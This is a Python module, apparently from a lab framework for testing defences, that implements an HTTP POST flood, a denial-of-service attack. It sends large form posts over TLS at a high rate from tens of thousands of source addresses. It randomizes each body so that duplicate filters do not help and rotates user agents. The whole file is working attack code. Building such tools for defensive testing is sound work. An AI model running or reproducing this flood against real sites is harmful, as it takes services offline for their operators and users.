"""POST flood: forms sent in, whole and at once. No cache answers a POST, and the application reads it all."""

from __future__ import annotations

import asyncio
import random

from pydantic import Field

from rempart.lab.attacks.bots import AGENTS, BotParameters, flood
from rempart.lab.attacks.contract import Attack, Order, Sources, Target, Unit
from rempart.lab.attacks.reporting import Tally, own_sender, run_sender
from rempart.lab.clients.connecting import careless_tls


class PostFlood(BotParameters):
    """What a POST flood can be told besides."""

    body_bytes: int = Field(default=8_000, ge=32, le=1_000_000)
    """Octets of the form that is sent."""


POST_FLOOD = Attack(
    name="post-flood",
    unit=Unit.REQUESTS,
    summary="forms of 8,000 octets posted over TLS from tens of thousands of addresses",
    defaults=PostFlood(rate=400, sources=Sources.PREFIXES, v6_share=0.2),
    sender=lambda order: own_sender(order, "post_flood"),
)


def request(target: Target, body_bytes: int, chosen: random.Random) -> bytes:
    # Never the same text twice, so that no filter for doubles helps.
    body = f"text={chosen.getrandbits(64):x}+".encode()
    body += b"a" * (body_bytes - len(body))
    head = (
        f"POST {target.form_page} HTTP/1.1\r\nHost: {target.host}\r\nUser-Agent: {chosen.choice(AGENTS)}\r\n"
        f"Accept: */*\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {len(body)}\r\n"
        "Connection: keep-alive\r\n\r\n"
    )
    return head.encode() + body


def carry_out(order: Order, tally: Tally) -> None:
    parameters = PostFlood.model_validate(order.parameters)

    def form(chosen: random.Random) -> bytes:
        return request(order.target, parameters.body_bytes, chosen)

    asyncio.run(flood(order, parameters, tally, careless_tls("http/1.1"), form))


if __name__ == "__main__":
    run_sender(carry_out)
